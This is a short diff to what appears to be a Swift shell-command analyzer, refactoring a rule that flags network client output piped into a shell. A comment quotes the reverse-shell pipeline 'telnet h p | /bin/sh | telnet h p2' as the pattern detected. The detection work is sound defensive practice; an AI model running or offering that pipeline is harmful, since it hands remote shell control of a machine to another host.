@@ -89,9 +89,7 @@ enum ShellAccess {
 
         // A network client's output fed to a shell: `telnet h p | /bin/sh | telnet h p2`.
         if inv.kind.contains(.netClient) || p.eq("telnet") {
-            if let s = a.downstream(of: k).first(where: {
-                Programs.readsScriptFromStdin(a.invocations[$0]) && a.invocations[$0].kind.contains(.shell)
-            }) {
+            if let s = a.firstDownstream(of: k, .shellRunsStdinScript) {
                 a.hit(
                     .telnetPipeShell, k, evidence: a.evidence(k) + " | " + a.invocations[s].program,
                     reason: "reverse shell: network input piped into \(a.invocations[s].program)")
